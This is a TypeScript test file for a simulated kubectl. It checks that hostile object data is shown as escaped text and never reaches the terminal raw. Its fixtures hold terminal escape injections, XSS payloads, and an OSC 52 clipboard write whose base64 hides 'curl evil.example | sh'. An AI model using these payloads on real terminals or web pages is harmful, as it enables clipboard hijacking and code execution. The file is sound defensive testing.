/**
 * Hostile strings in object data (issue 9, "nothing executes"): annotations, ConfigMap data,
 * container commands and event messages holding HTML, <script> tags and terminal control
 * sequences (SGR colours, OSC 52 clipboard writes, BEL, cursor moves, 8-bit C1 CSI) are printed
 * by every kubectl output path as visible text: no raw ESC, C0 or C1 control character reaches
 * the xterm, on stdout, on stderr, or through the streaming `onOutput` sink.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import type { ApiRequest, KubeObject } from '../../sim/api/types';
import { createCluster, type Cluster } from '../../sim/cluster';
import { runKubectl } from './kubectl';
import { sanitizeForTerminal } from './terminal';
import type { KubectlEnv } from './types';

const SGR = '\u001b[31mRED\u001b[0m';
const OSC52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const CURSOR = '\u001b[2J\u001b[H\u001b[10;10f';
const C1_CSI = '\u009b31mC1';
const BEL = 'ding\u0007';
const CR_OVERWRITE = 'safe\rEVIL';
const HTML = '<script>alert(1)</script><img src=x onerror=alert(2)>';
const HOSTILE = [SGR, OSC52, CURSOR, C1_CSI, BEL, CR_OVERWRITE, HTML].join(' ');

/** Raw control characters a terminal would interpret (newline and tab are allowed). */
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

let cluster: Cluster;

function create(path: string, body: KubeObject): void {
  const response = cluster.api.handle({ method: 'POST', path, body, user: 'test' });
  if (response.status !== 201) throw new Error(`${path}: ${JSON.stringify(response.body)}`);
}

beforeAll(() => {
  cluster = createCluster({ workers: 1, seed: 9 });
  create('/api/v1/namespaces/default/configmaps', {
    apiVersion: 'v1',
    kind: 'ConfigMap',
    metadata: { name: 'x', annotations: { note: HOSTILE, 'example.com/html': HTML } },
    data: { 'payload.txt': HOSTILE, 'script.html': HTML },
  });
  create('/api/v1/namespaces/default/pods', {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'evil', annotations: { note: HOSTILE } },
    spec: {
      containers: [{ name: 'c', image: 'busybox', command: ['sh', '-c', `echo '${HOSTILE}'`] }],
    },
  });
  create('/api/v1/namespaces/default/events', {
    apiVersion: 'v1',
    kind: 'Event',
    metadata: { name: 'x.hostile' },
    involvedObject: { kind: 'ConfigMap', namespace: 'default', name: 'x', apiVersion: 'v1' },
    reason: 'Hostile',
    message: HOSTILE,
    type: 'Warning',
    count: 1,
    source: { component: 'test' },
    firstTimestamp: '2026-01-01T00:00:00Z',
    lastTimestamp: '2026-01-01T00:00:00Z',
  });
  cluster.clock.advance(30_000);
});

function env(chunks: string[]): KubectlEnv {
  return {
    request: async (req: ApiRequest) => cluster.api.handle(req),
    nowMs: () => cluster.clock.now(),
    onOutput: (_stream, text) => chunks.push(text),
  };
}

const COMMANDS: string[][] = [
  ['get', 'cm', 'x', '-o', 'yaml'],
  ['get', 'cm', 'x', '-o', 'json'],
  ['get', 'cm', 'x', '-o', 'jsonpath={.data.payload\\.txt}'],
  ['get', 'cm', 'x', '-o', 'jsonpath={.metadata.annotations.note}'],
  ['get', 'cm', 'x', '-o', 'custom-columns=NOTE:.metadata.annotations.note'],
  ['describe', 'cm', 'x'],
  ['describe', 'pod', 'evil'],
  ['get', 'pod', 'evil', '-o', 'yaml'],
  ['get', 'pods', '-o', 'wide'],
  ['get', 'events'],
  ['events'],
  ['describe', 'events'],
  ['logs', 'evil'],
  // Errors echo user and object text on stderr.
  ['get', 'cm', '\u001b[31mnope\u0007'],
  ['apply', '-f', `\u001b]52;c;aGk=\u0007.yaml`],
];

describe('hostile strings through kubectl output', () => {
  it('sanitizeForTerminal escapes ESC, C0 and C1 controls visibly and keeps newlines and tabs', () => {
    expect(sanitizeForTerminal(`${SGR}\n\t${C1_CSI}${BEL}${CR_OVERWRITE}`)).toBe(
      '^[[31mRED^[[0m\n\t\\x9b31mC1ding\\x07safe\\rEVIL',
    );
  });

  for (const argv of COMMANDS) {
    it(`kubectl ${argv.join(' ')} prints no raw control character`, async () => {
      const chunks: string[] = [];
      const result = await runKubectl(argv, env(chunks));
      const all = result.stdout + result.stderr;
      expect(all.length).toBeGreaterThan(0);
      expect(RAW_CONTROL.test(all), JSON.stringify(all.slice(0, 400))).toBe(false);
      expect(RAW_CONTROL.test(chunks.join(''))).toBe(false);
    });
  }

  it('shows the hostile text as text: escapes visible, HTML verbatim', async () => {
    const describeCm = await runKubectl(['describe', 'cm', 'x'], env([]));
    expect(describeCm.stdout).toContain('^[[31mRED^[[0m');
    expect(describeCm.stdout).toContain('^[]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07');
    expect(describeCm.stdout).toContain(HTML);
    const events = await runKubectl(['get', 'events'], env([]));
    expect(events.stdout).toContain('Hostile');
    expect(events.stdout).toContain('^[[2J^[[H');
  });
});
